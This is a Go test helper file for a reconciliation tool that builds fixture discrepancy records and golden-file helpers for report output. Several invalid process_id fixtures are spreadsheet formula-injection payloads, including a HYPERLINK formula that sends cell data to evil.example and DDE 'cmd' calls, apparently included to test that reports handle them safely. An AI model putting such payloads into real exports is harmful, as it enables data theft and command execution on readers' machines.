package reports_test

import (
	"bytes"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/unico-reconcile/unico-reconcile/reconcile"
)

var update = flag.Bool("update", false, "rewrite golden files")

// t0 is the fixed clock of the fixtures.
var t0 = time.Date(2026, 3, 14, 9, 0, 0, 0, time.UTC)

// brt is Brasília time: saved_at values carry an offset, reports show UTC.
var brt = time.FixedZone("BRT", -3*60*60)

func intp(n int) *int              { return &n }
func floatp(f float64) *float64    { return &f }
func at(d time.Duration) time.Time { return t0.Add(d) }

const (
	idA = "80371b2a-3ac7-432e-866d-57fe37896ac6"
	idB = "1f0e6c2e-5b7d-4c51-9a57-2d1f3f6a9b10"
	idC = "c2a4e8f0-0d39-4b8e-8f3c-6e7a1b2c3d4e"
	idD = "0b9d7c5a-3e1f-4a2b-9c8d-7e6f5a4b3c2d"
	idE = "e5f4d3c2-b1a0-4987-a6b5-c4d3e2f1a0b9"
	idF = "5a6b7c8d-9e0f-4a1b-8c2d-3e4f5a6b7c8d"
	idG = "9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a"
	idH = "3c4d5e6f-7a8b-4c9d-ae0f-1a2b3c4d5e6f"
)

// allKinds is a fixed run that shows every discrepancy kind, in source
// order, with a match and a pending row among them (they are not listed).
func allKinds() []reconcile.Discrepancy {
	saved := time.Date(2026, 3, 13, 18, 30, 15, 250_000_000, brt)
	return []reconcile.Discrepancy{
		{
			Kind:  reconcile.LostResponse,
			Local: reconcile.Local{Row: 2, ProcessID: idA, Outcome: reconcile.Outcome{Status: reconcile.StatusProcessing}, SavedAt: saved},
			Remote: &reconcile.Remote{ID: idA, Outcome: reconcile.Outcome{
				Status: reconcile.StatusFinished, UnicoID: "yes", IdentityFraudsters: "inconclusive", Serpro: intp(87),
			}},
			HTTPStatus: 200,
			Detail:     "local status 1, remote status 3: the final response was lost",
			FetchedAt:  at(time.Second),
			Attempts:   1,
		},
		{
			Kind:       reconcile.Match,
			Local:      reconcile.Local{Row: 3, ProcessID: idB, Outcome: reconcile.Outcome{Status: reconcile.StatusFinished, UnicoID: "yes"}, SavedAt: saved},
			Remote:     &reconcile.Remote{ID: idB, Outcome: reconcile.Outcome{Status: reconcile.StatusFinished, UnicoID: "yes"}},
			HTTPStatus: 200,
			FetchedAt:  at(2 * time.Second),
			Attempts:   1,
		},
		{
			Kind:       reconcile.StatusMismatch,
			Local:      reconcile.Local{Row: 4, ProcessID: idC, Outcome: reconcile.Outcome{Status: reconcile.StatusFinished, UnicoID: "yes"}, SavedAt: saved},
			Remote:     &reconcile.Remote{ID: idC, Outcome: reconcile.Outcome{Status: reconcile.StatusCancelled}},
			HTTPStatus: 200,
			Detail:     "local status 3, remote status 4",
			FetchedAt:  at(3 * time.Second),
			Attempts:   1,
		},
		{
			Kind: reconcile.ResultMismatch,
			Local: reconcile.Local{Row: 5, ProcessID: idD, Outcome: reconcile.Outcome{
				Status: reconcile.StatusFinished, UnicoID: "inconclusive", IdentityFraudsters: "inconclusive",
				Serpro: intp(87), Liveness: intp(1), Score: floatp(40),
			}, SavedAt: saved},
			Remote: &reconcile.Remote{ID: idD, Outcome: reconcile.Outcome{
				Status: reconcile.StatusFinished, UnicoID: "no", IdentityFraudsters: "inconclusive",
				Serpro: intp(-1), Score: floatp(-12.5),
			}},
			Fields: []reconcile.FieldDiff{
				{Name: reconcile.FieldUnicoID, Local: "inconclusive", Remote: "no"},
				{Name: reconcile.FieldSerpro, Local: "87", Remote: "-1"},
				{Name: reconcile.FieldLiveness, Local: "1", Remote: ""},
				{Name: reconcile.FieldScore, Local: "40", Remote: "-12.5"},
			},
			HTTPStatus:  200,
			Detail:      "4 result fields differ",
			FetchedAt:   at(4*time.Second + 125*time.Millisecond),
			Attempts:    3,
			RateLimited: 2,
		},
		{
			Kind:       reconcile.LostResponse,
			Local:      reconcile.Local{Row: 6, ProcessID: idE, SavedAt: saved},
			Remote:     &reconcile.Remote{ID: idE, Outcome: reconcile.Outcome{Status: reconcile.StatusError}, Gone: true},
			HTTPStatus: 410,
			Detail:     "no local status, remote status 5 (410 Gone)",
			FetchedAt:  at(5 * time.Second),
			Attempts:   1,
		},
		{
			Kind:       reconcile.NotFound,
			Local:      reconcile.Local{Row: 7, ProcessID: idF, Outcome: reconcile.Outcome{Status: reconcile.StatusFinished, UnicoID: "yes"}, SavedAt: saved},
			HTTPStatus: 404,
			ErrorCode:  "50001",
			Detail:     "the API does not know this process for this tenant",
			FetchedAt:  at(6 * time.Second),
			Attempts:   1,
		},
		{
			Kind:       reconcile.Pending,
			Local:      reconcile.Local{Row: 8, ProcessID: idG, Outcome: reconcile.Outcome{Status: reconcile.StatusProcessing}, SavedAt: at(-time.Hour)},
			Remote:     &reconcile.Remote{ID: idG, Outcome: reconcile.Outcome{Status: reconcile.StatusProcessing}},
			HTTPStatus: 200,
			FetchedAt:  at(7 * time.Second),
			Attempts:   1,
		},
		{
			Kind:       reconcile.StillProcessing,
			Local:      reconcile.Local{Row: 9, ProcessID: idH, Outcome: reconcile.Outcome{Status: reconcile.StatusDivergence}, SavedAt: time.Date(2026, 3, 10, 8, 0, 0, 0, brt)},
			Remote:     &reconcile.Remote{ID: idH, Outcome: reconcile.Outcome{Status: reconcile.StatusDivergence}},
			HTTPStatus: 200,
			Detail:     "remote status 2 for 4d4h0m0s after saved_at",
			FetchedAt:  at(8 * time.Second),
			Attempts:   1,
		},
		{
			Kind:     reconcile.Unverified,
			Local:    reconcile.Local{Row: 10, ProcessID: "6d5c4b3a-2f1e-4d0c-9b8a-7f6e5d4c3b2a", Outcome: reconcile.Outcome{Status: reconcile.StatusProcessing}, SavedAt: saved},
			Detail:   "dial tcp 127.0.0.1:8080: connect: connection refused",
			Attempts: 6,
		},
		{
			Kind:        reconcile.Unverified,
			Local:       reconcile.Local{Row: 11, ProcessID: "7e6d5c4b-3a2f-4e1d-8c9b-0a1f2e3d4c5b", Outcome: reconcile.Outcome{Status: reconcile.StatusFinished}, SavedAt: saved},
			HTTPStatus:  500,
			ErrorCode:   "99999",
			Detail:      "HTTP 500 (99999) after 6 attempts",
			FetchedAt:   at(9 * time.Second),
			Attempts:    6,
			RateLimited: 1,
		},
		invalid(12, `=HYPERLINK("http://evil.example/?d="&A1,"click")`),
		invalid(13, "+cmd|' /C calc'!A0"),
		invalid(14, "-2+3"),
		invalid(15, "@SUM(1+1)*cmd|' /C calc'!A0"),
		invalid(16, "\tx"),
		invalid(17, "  =1"),
		{
			Kind:   reconcile.InvalidInput,
			Local:  reconcile.Local{Row: 18, ProcessID: "8f7e6d5c-4b3a-4f2e-9d1c-0b9a8f7e6d5c", Outcome: reconcile.Outcome{Status: 9}, Invalid: errors.New("outcomes.csv: row 18: status: 9 is not 1..5")},
			Detail: "outcomes.csv: row 18: status: 9 is not 1..5",
		},
		{
			Kind:       reconcile.DuplicateID,
			Local:      reconcile.Local{Row: 19, ProcessID: idA, Outcome: reconcile.Outcome{Status: reconcile.StatusFinished, UnicoID: "yes"}, SavedAt: saved.Add(time.Minute)},
			Remote:     &reconcile.Remote{ID: idA, Outcome: reconcile.Outcome{Status: reconcile.StatusFinished, UnicoID: "yes", IdentityFraudsters: "inconclusive", Serpro: intp(87)}},
			HTTPStatus: 200,
			Detail:     "process_id first seen in row 2",
			FetchedAt:  at(time.Second),
		},
	}
}

// invalid is an invalid_input row whose process_id is not a UUID.
func invalid(row int, id string) reconcile.Discrepancy {
	err := errors.New("outcomes.csv: row " + strconv.Itoa(row) + ": process_id: not a UUID")
	return reconcile.Discrepancy{
		Kind:   reconcile.InvalidInput,
		Local:  reconcile.Local{Row: row, ProcessID: id, Invalid: err},
		Detail: err.Error(),
	}
}

// summaryOf counts ds as the pipeline does, on the fixed clock.
func summaryOf(ds []reconcile.Discrepancy) reconcile.Summary {
	s := reconcile.Summary{
		RunID:      "20260314T090000Z",
		Version:    "v0.1.0-test",
		StartedAt:  t0,
		FinishedAt: t0.Add(62*time.Second + 500*time.Millisecond),
		Source:     "testdata/demo/outcomes.csv",
		APIRoot:    "http://127.0.0.1:8080",
		Rate:       10,
		Workers:    16,
	}
	for _, d := range ds {
		s.Add(d)
	}
	s.ExitCode = s.Code()
	return s
}

// MustGolden compares got with the golden file at path, or rewrites the file
// when -update is set.
func MustGolden(tb testing.TB, path string, got []byte) {
	tb.Helper()
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			tb.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			tb.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		tb.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		tb.Errorf("%s differs (-want +got):\n%s", path, cmp.Diff(string(want), string(got)))
	}
}

// MustReadDir returns the names in dir, sorted.
func MustReadDir(tb testing.TB, dir string) []string {
	tb.Helper()
	es, err := os.ReadDir(dir)
	if err != nil {
		tb.Fatal(err)
	}
	names := []string{}
	for _, e := range es {
		names = append(names, e.Name())
	}
	sort.Strings(names)
	return names
}

// errWriter fails every write after the first n bytes.
type errWriter struct{ n int }

var errDiskFull = errors.New("disk full")

func (w *errWriter) Write(p []byte) (int, error) {
	if len(p) <= w.n {
		w.n -= len(p)
		return len(p), nil
	}
	n := w.n
	w.n = 0
	return n, errDiskFull
}
